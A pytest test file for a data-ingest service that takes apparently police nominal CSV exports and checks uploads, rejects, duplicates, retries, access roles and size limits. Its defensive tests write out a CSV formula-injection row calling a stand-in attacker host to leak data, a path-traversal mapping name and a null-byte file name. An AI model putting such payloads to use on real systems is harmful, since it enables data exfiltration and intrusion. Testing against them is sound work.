"""Uploading files over HTTP and following their batches, as a connector and an analyst see it."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from asgi_lifespan import LifespanManager
from fastapi import FastAPI
from precise_ingest.adapters.mappings import shipped_mappings
from precise_ingest.adapters.pnc import HEADER
from precise_ingest.service import service
from precise_ingest.testing import finished_batch, published, runtime_of, upload

from precise_chassis.app import create_app
from precise_chassis.auth.dev_issuer import issue_dev_token
from precise_chassis.auth.roles import Role
from precise_chassis.runtime import Platform
from precise_chassis.settings import PlatformSettings
from precise_contracts.registry import REGISTRY


async def test_a_synthetic_pnc_file_is_accepted_then_completed_with_an_event_per_nominal(
    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
) -> None:
    rows = len(list(csv.reader(io.StringIO(nominals.decode())))) - 1

    answer = await upload(client, writer, nominals)

    assert answer.status_code == 202, answer.text
    batch_id = answer.json()["batch_id"]
    assert answer.headers["location"] == f"/ingest/v1/batches/{batch_id}"
    batch = await finished_batch(client, batch_id, writer)
    assert batch["status"] == "completed"
    assert batch["counts"] == {"read": rows, "accepted": rows, "rejected": 0, "duplicate": 0}
    events = await published(runtime_of(app))
    assert len(events) == rows
    assert {event["source"]["record_id"] for event in events} == {
        row[0] for row in list(csv.reader(io.StringIO(nominals.decode())))[1:]
    }
    assert not any(event["is_update"] for event in events)


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


async def test_bad_rows_are_rejected_with_line_field_reason_and_bytes_and_the_rest_accepted(
    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], analyst: dict[str, str], nominals: bytes
) -> None:
    header, *rows = _rows(nominals)
    good_pnc = rows[2][1]
    wrong_letter = "Z" if good_pnc[-1] != "Z" else "Y"
    rows[2][1] = good_pnc[:-1] + wrong_letter
    rows[5][HEADER.index("sex")] = "X"
    content = _csv([header, *rows])

    batch_id = (await upload(client, writer, content)).json()["batch_id"]
    batch = await finished_batch(client, batch_id, writer)

    assert batch["status"] == "completed"
    assert batch["counts"] == {"read": len(rows), "accepted": len(rows) - 2, "rejected": 2, "duplicate": 0}
    assert len(await published(runtime_of(app))) == len(rows) - 2
    rejects = (await client.get(f"/ingest/v1/batches/{batch_id}/rejects", headers=analyst)).json()
    assert [(r["line"], r["field"]) for r in rejects] == [(4, "pnc_id"), (7, "sex")]
    assert f"needs {good_pnc[-1]}" in rejects[0]["reason"]
    assert rejects[0]["original"] == _csv([rows[2]]).decode()
    assert "'X' is not M, F or U" in rejects[1]["reason"]


async def test_the_same_file_again_is_all_duplicates_and_publishes_nothing(
    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
) -> None:
    first = await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)
    before = len(await published(runtime_of(app)))

    again = await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)

    read = first["counts"]["read"]
    assert again["counts"] == {"read": read, "accepted": 0, "rejected": 0, "duplicate": read}
    assert len(await published(runtime_of(app))) == before == read


async def test_a_changed_record_with_the_same_id_is_published_as_an_update(
    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
) -> None:
    header, *rows = _rows(nominals)
    await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)
    rows[0][HEADER.index("forenames")] = "CHANGED NAME"

    batch = await finished_batch(
        client, (await upload(client, writer, _csv([header, *rows]))).json()["batch_id"], writer
    )

    assert batch["counts"] == {"read": len(rows), "accepted": 1, "rejected": 0, "duplicate": len(rows) - 1}
    latest = (await published(runtime_of(app)))[-1]
    assert latest["source"]["record_id"] == rows[0][0]
    assert latest["is_update"] is True
    assert latest["names"][0]["forenames"] == ["CHANGED", "NAME"]
    first = next(e for e in await published(runtime_of(app)) if e["source"]["record_id"] == rows[0][0])
    assert first["source"]["content_hash"] != latest["source"]["content_hash"]


async def test_a_file_that_is_not_a_pnc_export_fails_its_batch_with_the_reason(
    client: httpx.AsyncClient, writer: dict[str, str]
) -> None:
    answer = await upload(client, writer, b"vrm,camera,time\r\nAB12CDE,CAM1,2024-03-18T07:41:05Z\r\n")

    batch = await finished_batch(client, answer.json()["batch_id"], writer)

    assert batch["status"] == "failed"
    assert "not a PNC nominal export" in batch["failure_reason"]
    assert batch["counts"]["read"] == 0


async def test_a_dropped_export_whose_mapping_was_missing_is_read_once_the_mapping_exists_and_it_is_put_back(
    app: FastAPI,
    client: httpx.AsyncClient,
    settings: PlatformSettings,
    writer: dict[str, str],
    supervisor: dict[str, str],
    outsider: dict[str, str],
    synthetic: Path,
) -> None:
    folder = settings.data_dir / "ingest-drop" / "legacy" / "custody-2027"
    folder.mkdir(parents=True)
    (folder / "export.csv").write_bytes((synthetic / "legacy" / "custody.csv").read_bytes())
    failed = await _first_failed(client, supervisor)
    batch_id = failed["batch_id"]
    assert "no mapping named 'custody-2027'" in failed["failure_reason"]

    assert (await client.post(f"/ingest/v1/batches/{batch_id}/retry", headers=outsider)).status_code == 403
    assert (await client.post(f"/ingest/v1/batches/{batch_id}/retry", headers=writer)).status_code == 404  # not its
    mapping = shipped_mappings()["custody"].text.replace("name: custody\n", "name: custody-2027\n")
    yaml = {"Content-Type": "application/yaml"}
    added = await client.post("/ingest/v1/mappings", content=mapping, headers=writer | yaml)
    assert added.status_code == 201, added.text
    answer = await client.post(f"/ingest/v1/batches/{batch_id}/retry", headers=supervisor)

    assert answer.status_code == 202, answer.text
    assert answer.headers["location"] == f"/ingest/v1/batches/{batch_id}"
    assert answer.json()["status"] == "received"
    assert answer.json()["failure_reason"] is None
    batch = await finished_batch(client, batch_id, supervisor)
    assert batch["status"] == "completed", batch
    assert batch["retries"] == 1
    assert batch["counts"]["accepted"] == batch["counts"]["read"] > 0
    assert len(await published(runtime_of(app))) == batch["counts"]["accepted"]
    again = await client.post(f"/ingest/v1/batches/{batch_id}/retry", headers=supervisor)
    assert again.status_code == 409
    assert "is completed" in again.json()["detail"]


async def test_a_connector_may_put_back_its_own_failed_upload_which_fails_again_for_the_same_reason(
    client: httpx.AsyncClient, writer: dict[str, str]
) -> None:
    answer = await upload(client, writer, b"vrm,camera,time\r\nAB12CDE,CAM1,2024-03-18T07:41:05Z\r\n")
    batch_id = answer.json()["batch_id"]
    first = await finished_batch(client, batch_id, writer)

    retried = await client.post(f"/ingest/v1/batches/{batch_id}/retry", headers=writer)
    assert retried.status_code == 202, retried.text
    second = await finished_batch(client, batch_id, writer)

    assert second["status"] == "failed"
    assert second["failure_reason"] == first["failure_reason"]
    assert (second["retries"], first["retries"]) == (1, 0)
    assert (await client.post("/ingest/v1/batches/0123456789abcdef/retry", headers=writer)).status_code == 404


async def _first_failed(client: httpx.AsyncClient, headers: dict[str, str]) -> dict[str, Any]:
    for _ in range(400):
        answer = await client.get("/ingest/v1/batches", params={"status": "failed"}, headers=headers)
        if answer.json():
            failed: dict[str, Any] = answer.json()[0]
            return failed
        await asyncio.sleep(0.02)
    raise AssertionError("the dropped file never became a failed batch")


async def test_rejects_download_as_csv_neutralises_formulas(
    client: httpx.AsyncClient, writer: dict[str, str], analyst: dict[str, str], nominals: bytes
) -> None:
    header, *rows = _rows(nominals)
    rows[0][HEADER.index("recorded_date")] = "not a date"
    # written by hand: the formula is the row's first, unquoted cell, as a hostile export would have it
    row = b'=HYPERLINK("http://attacker.invalid/?leak"),' + _csv([rows[0][1:]])
    batch_id = (await upload(client, writer, _csv([header]) + row)).json()["batch_id"]
    await finished_batch(client, batch_id, writer)

    answer = await client.get(f"/ingest/v1/batches/{batch_id}/rejects", params={"format": "csv"}, headers=analyst)

    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    (titles, reject) = list(csv.reader(io.StringIO(answer.text)))
    assert titles == ["line", "field", "reason", "original"]
    assert reject[:2] == ["2", "recorded_date"]
    assert reject[3].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in reject)


async def test_who_may_upload_follow_and_read_rejects(
    client: httpx.AsyncClient,
    writer: dict[str, str],
    analyst: dict[str, str],
    outsider: dict[str, str],
    nominals: bytes,
) -> None:
    assert (await upload(client, {}, nominals)).status_code == 401
    assert (await upload(client, analyst, nominals)).status_code == 403
    batch_id = (await upload(client, writer, nominals)).json()["batch_id"]
    status = f"/ingest/v1/batches/{batch_id}"

    assert (await client.get(status)).status_code == 401
    assert (await client.get(status, headers=writer)).status_code == 200  # the sender follows its batch
    assert (await client.get(status, headers=analyst)).status_code == 200
    assert (await client.get(status, headers=outsider)).status_code == 403
    assert (
        await client.get(f"{status}/rejects", headers=writer | {"Precise-Purpose": analyst["Precise-Purpose"]})
    ).status_code == 403
    no_purpose = {"Authorization": analyst["Authorization"]}
    missing = await client.get(f"{status}/rejects", headers=no_purpose)
    assert missing.status_code == 400
    assert "Precise-Purpose" in missing.text
    assert (await client.get(f"{status}/rejects", headers=analyst)).status_code == 200


async def test_batches_are_listed_newest_first_by_status_and_source_a_page_at_a_time(
    client: httpx.AsyncClient, writer: dict[str, str], analyst: dict[str, str], nominals: bytes
) -> None:
    sent = []
    for content in (nominals, b"vrm,camera,time\r\nAB12CDE,CAM1,2024-03-18T07:41:05Z\r\n", nominals):
        batch_id = (await upload(client, writer, content)).json()["batch_id"]
        await finished_batch(client, batch_id, writer)
        sent.append(batch_id)

    async def listed(**params: str) -> list[dict[str, object]]:
        answer = await client.get("/ingest/v1/batches", params=params, headers=analyst)
        assert answer.status_code == 200, answer.text
        return list(answer.json())

    assert [batch["batch_id"] for batch in await listed()] == sent[::-1]
    failed = await listed(status="failed")
    assert [batch["batch_id"] for batch in failed] == [sent[1]]
    assert "not a PNC nominal export" in str(failed[0]["failure_reason"])
    first = await listed(limit="2")
    assert [batch["batch_id"] for batch in first] == [sent[2], sent[1]]
    assert [batch["batch_id"] for batch in await listed(limit="2", before=sent[1])] == [sent[0]]
    assert await listed(source="anpr") == []
    assert (await client.get("/ingest/v1/batches", params={"status": "lost"}, headers=analyst)).status_code == 422
    assert (await client.get("/ingest/v1/batches", params={"before": "nope"}, headers=analyst)).status_code == 404


async def test_a_connector_lists_only_the_batches_it_sent(
    client: httpx.AsyncClient,
    settings: PlatformSettings,
    writer: dict[str, str],
    analyst: dict[str, str],
    outsider: dict[str, str],
    nominals: bytes,
) -> None:
    other = {"Authorization": f"Bearer {issue_dev_token(settings, roles=[Role.INGEST_SYSTEM], sub='NICHE-LINK')}"}
    ours = (await upload(client, writer, nominals)).json()["batch_id"]
    theirs = (await upload(client, other, nominals)).json()["batch_id"]

    def ids(answer: httpx.Response) -> set[str]:
        return {batch["batch_id"] for batch in answer.json()}

    assert ids(await client.get("/ingest/v1/batches", headers=writer)) == {ours}
    assert ids(await client.get("/ingest/v1/batches", headers=other)) == {theirs}
    assert ids(await client.get("/ingest/v1/batches", headers=analyst)) == {ours, theirs}
    # another connector's batch is no page boundary for it
    assert (await client.get("/ingest/v1/batches", params={"before": ours}, headers=other)).status_code == 404
    assert (await client.get("/ingest/v1/batches", headers=outsider)).status_code == 403


async def test_an_unknown_source_or_batch_is_404(client: httpx.AsyncClient, writer: dict[str, str]) -> None:
    answer = await upload(client, writer, b"x", source="teletext")
    assert answer.status_code == 404
    assert "pnc" in answer.json()["detail"]
    assert (await client.get("/ingest/v1/batches/nope", headers=writer)).status_code == 404


async def test_a_legacy_upload_needs_a_mapping_name(client: httpx.AsyncClient, writer: dict[str, str]) -> None:
    answer = await upload(client, writer, b"a,b\r\n", source="legacy")
    assert answer.status_code == 422
    assert "mapping" in answer.json()["detail"]
    bad = await upload(client, writer, b"a,b\r\n", source="legacy", params={"mapping": "../etc"})
    assert bad.status_code == 422


async def test_an_upload_beyond_the_limit_gets_413_by_its_length_or_while_streaming(
    settings: PlatformSettings, monkeypatch: pytest.MonkeyPatch, writer: dict[str, str]
) -> None:
    monkeypatch.setenv("PRECISE_INGEST_MAX_UPLOAD_BYTES", "1000")
    application = create_app(Platform(settings, [service], REGISTRY))
    async with (
        LifespanManager(application),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=application), base_url="http://precise") as client,
    ):
        declared = await upload(client, writer, b"x" * 5000)
        assert declared.status_code == 413

        boundary = "precise-boundary"
        head = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n').encode()

        async def body() -> AsyncIterator[bytes]:  # no Content-Length: only counting can catch it
            yield head
            for _ in range(10):
                yield b"y" * 500
            yield f"\r\n--{boundary}--\r\n".encode()

        streamed = await client.post(
            "/ingest/v1/pnc/files",
            content=body(),
            headers=writer | {"Content-Type": f"multipart/form-data; boundary={boundary}"},
        )
        assert streamed.status_code == 413
        assert "1000 bytes" in streamed.json()["detail"]
        small = await upload(client, writer, b"z" * 100)
        assert small.status_code == 202


async def test_a_file_name_holding_a_control_character_is_refused_with_a_reason(
    client: httpx.AsyncClient, writer: dict[str, str]
) -> None:
    boundary = "precise-boundary"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="nominals\x00.csv"\r\n\r\n'
        f"x\r\n--{boundary}--\r\n"
    ).encode()
    answer = await client.post(
        "/ingest/v1/pnc/files",
        content=body,
        headers=writer | {"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )

    assert answer.status_code == 422
    assert "control character" in answer.json()["detail"]
    assert (await upload(client, writer, b"x", name="Łódź nominals (copy).csv")).status_code == 202
